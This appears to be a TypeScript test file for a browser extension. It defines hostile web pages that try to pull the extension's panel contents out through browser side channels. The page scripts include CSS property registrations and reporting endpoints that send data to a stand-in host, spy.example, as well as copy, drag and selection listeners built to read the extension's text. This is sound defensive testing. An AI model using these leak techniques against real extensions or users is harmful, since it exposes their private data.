import { readdirSync, readFileSync } from 'node:fs';
import { expect } from 'vitest';
import { messagePattern } from '../../harness/messages.ts';
import { findPanelFrame } from '../../harness/panel-frame.ts';
import { clickInPanel, readPanel, waitForPanel } from '../../harness/panel-view.ts';
import { runInSurface } from '../../harness/run-in-surface.ts';
import { rest, until } from '../../harness/until.ts';
import { type HostilePage, html, type Stage, story, unharmed } from '../hostile-page.ts';

/** Every variable of our style sheets, by the name that it has in the sources. */
const variables = [
  ...new Set(
    readdirSync('extension')
      .filter((name) => name.endsWith('.css'))
      .flatMap((name) => readFileSync(`extension/${name}`, 'utf8').match(/--[a-z][\w-]*/g) ?? []),
  ),
];

/** Links of the panel that can be seen: their addresses, and their middles in the page's viewport. */
async function linksOf({ world, page }: Stage) {
  await waitForPanel(world, page, 'the open panel', ({ isOpen }) => isOpen);
  await clickInPanel(world, page, messagePattern('tab_sources'));
  return await until('links in the panel', async () => {
    const view = await readPanel(world, page);
    const links = await runInSurface(world, page, (root) =>
      [...root.querySelectorAll('a')]
        .map((link) => ({ href: link.getAttribute('href'), box: link.getBoundingClientRect() }))
        .filter(({ box }) => box.width > 0 && box.top > 120 && box.bottom < innerHeight - 20)
        .map(({ href, box }) => ({ href, x: box.x + box.width / 3, y: box.y + box.height / 2 })),
    );
    const { box } = (await findPanelFrame(world, page)) ?? { box: { x: 0, y: 0 } };
    return (
      view && links.length > 0 && links.map((link) => ({ ...link, x: link.x + box.x, y: link.y + box.y }))
    );
  });
}

const rules = {
  prefetch: [{ source: 'document', where: { not: { href_matches: '/nowhere' } }, eagerness: 'immediate' }],
};

const listens = `
  const heard = []; window.heard = heard;
  const hear = (event) => {
    heard.push(event.type, String(getSelection()));
    for (const data of [event.dataTransfer, event.clipboardData]) if (data) for (const type of data.types) heard.push(data.getData(type));
    const { anchorNode } = getSelection(); if (anchorNode && anchorNode.getRootNode() !== document) leak('the selection leads inside');
  };
  for (const type of ['beforecopy', 'copy', 'cut', 'selectionchange', 'selectstart', 'focusin', 'focusout', 'blur', 'select', 'dragstart', 'drag', 'dragover', 'dragend']) addEventListener(type, hear, true);`;

/** Pages that come by ways which browsers have left open between a page and what stands in it. */
export const sideDoors: HostilePage[] = [
  {
    what: 'registers our variables with pictures of its own',
    outcomes: ['recognized'],
    panel: 'there',
    body: () =>
      html({
        script: `for (const name of ${JSON.stringify(variables)}) try { CSS.registerProperty({ name, syntax: '<image>', inherits: false, initialValue: 'url(https://spy.example/' + name.slice(2) + ')' }); } catch {}`,
      }),
    async act(stage) {
      await linksOf(stage);
      await rest(300);
      const asked = stage.world.server.askedOf('spy.example').map(({ url }) => url.pathname);
      expect(asked.filter((path) => variables.includes(`--${path.slice(1)}`))).toEqual([]);
      const { text, isOpen } = await waitForPanel(stage.world, stage.page);
      expect(isOpen && text.length > 200).toBe(true);
    },
  },
  {
    what: 'has its links fetched before anybody follows them',
    outcomes: ['recognized'],
    panel: 'there',
    headers: { 'x-dns-prefetch-control': 'on' },
    body: () =>
      html({
        head: `<script type="speculationrules">${JSON.stringify(rules)}</script>`,
        body: `${story}<a href="https://control.example/own">own</a>`,
      }),
    async act(stage) {
      const { world } = stage;
      const links = await linksOf(stage);
      expect(links.every(({ href }) => href?.startsWith('https://'))).toBe(true);
      // Firefox knows no such rules.
      if (world.kind === 'chrome')
        await until('its own link to be fetched', () => world.server.askedOf('control.example').length > 0);
      await rest(700);
      expect(world.server.askedOf('web.archive.org')).toEqual([]);
    },
  },
  unharmed('reads what is dragged', listens, {
    async act(stage) {
      const [link] = await linksOf(stage);
      if (!link) throw new Error('no link is in view');
      const { mouse } = stage.page;
      await mouse.move(link.x, link.y);
      await mouse.down();
      await mouse.move(link.x - 40, link.y + 8, { steps: 4 });
      await mouse.move(link.x - 90, link.y + 20, { steps: 4 });
      await mouse.up();
      await rest(150);
      const heard = (await stage.page.evaluate('heard')) as string[];
      expect(heard.filter((text) => /^drag|archive|http/.test(text))).toEqual([]);
    },
  }),
  unharmed('reads what is copied where there is no clipboard', '', {
    async act({ world, page }) {
      const url = 'http://copied.story.example/';
      const forge = `addEventListener('copy', (event) => { if (event.isTrusted) { const data = new DataTransfer(); dispatchEvent(new ClipboardEvent('copy', { clipboardData: data })); window.forged = data.getData('text/plain'); } }, true);`;
      world.server.serve(url, { body: html({ script: listens + forge }) });
      await page.goto(url);
      await waitForPanel(world, page, 'the open panel', ({ isOpen }) => isOpen);
      await clickInPanel(world, page, messagePattern('tab_cite'));
      await clickInPanel(world, page, messagePattern('cite_copy'));
      await waitForPanel(world, page, 'that it is copied', ({ text }) =>
        messagePattern('cite_copied').test(text),
      );
      const heard = (await page.evaluate('heard')) as string[];
      expect(heard).not.toContain('copy');
      expect(heard.filter((text) => text.includes('archive.org'))).toEqual([]);
      expect(await page.evaluate('window.forged')).toBeUndefined();
      expect(await page.evaluate('leaked')).toEqual([]);
    },
  }),
  unharmed('extends its selection into our element', '', {
    async act({ world, page }) {
      const { text } = await waitForPanel(world, page, 'the open panel', ({ isOpen }) => isOpen);
      const read = await page.evaluate(() => {
        const host = document.querySelector(':popover-open') as HTMLElement;
        const selection = getSelection() as Selection & { getComposedRanges?: () => StaticRange[] };
        const said: string[] = [];
        for (const isEdited of [false, true]) {
          host.contentEditable = String(isEdited);
          for (const unit of ['character', 'word', 'line', 'sentence', 'documentboundary']) {
            selection.collapse(host, 0);
            for (let times = 0; times < 20; times++) selection.modify('extend', 'forward', unit);
            said.push(String(selection));
            for (let times = 0; times < 40; times++) selection.modify('extend', 'backward', unit);
            said.push(String(selection));
            for (const { startContainer, endContainer } of selection.getComposedRanges?.() ?? [])
              for (const node of [startContainer, endContainer])
                if (node.getRootNode() !== document) said.push('inside');
          }
          selection.selectAllChildren(host);
          said.push(String(selection));
        }
        host.removeAttribute('contenteditable');
        return said;
      });
      const own = await page.evaluate(() => document.body.textContent);
      const secrets = text.split('\n').filter((line) => line.trim().length > 8 && !own.includes(line.trim()));
      expect(secrets.length).toBeGreaterThan(3);
      expect(read.filter((said) => said === 'inside' || secrets.some((line) => said.includes(line)))).toEqual(
        [],
      );
    },
  }),
  {
    what: 'has reports sent of whatever is old or stopped in it',
    outcomes: ['recognized'],
    panel: 'there',
    headers: {
      'reporting-endpoints': 'default="https://spy.example/default"',
      'permissions-policy-report-only': 'clipboard-write=(), clipboard-read=()',
    },
    body: () =>
      html({
        script: `if (window.ReportingObserver) new ReportingObserver((reports) => { for (const report of reports) if (JSON.stringify(report).includes('-extension://')) leak('a report ' + JSON.stringify(report)); }, { buffered: true }).observe();`,
      }),
    async act({ world, page }) {
      await waitForPanel(world, page, 'the open panel', ({ isOpen }) => isOpen);
      await clickInPanel(world, page, messagePattern('tab_cite'));
      await clickInPanel(world, page, messagePattern('cite_copy'));
      await rest(400);
      const told = world.server.askedOf('spy.example').map(({ body }) => String(body));
      expect(told.filter((report) => report.includes('-extension://'))).toEqual([]);
    },
  },
];
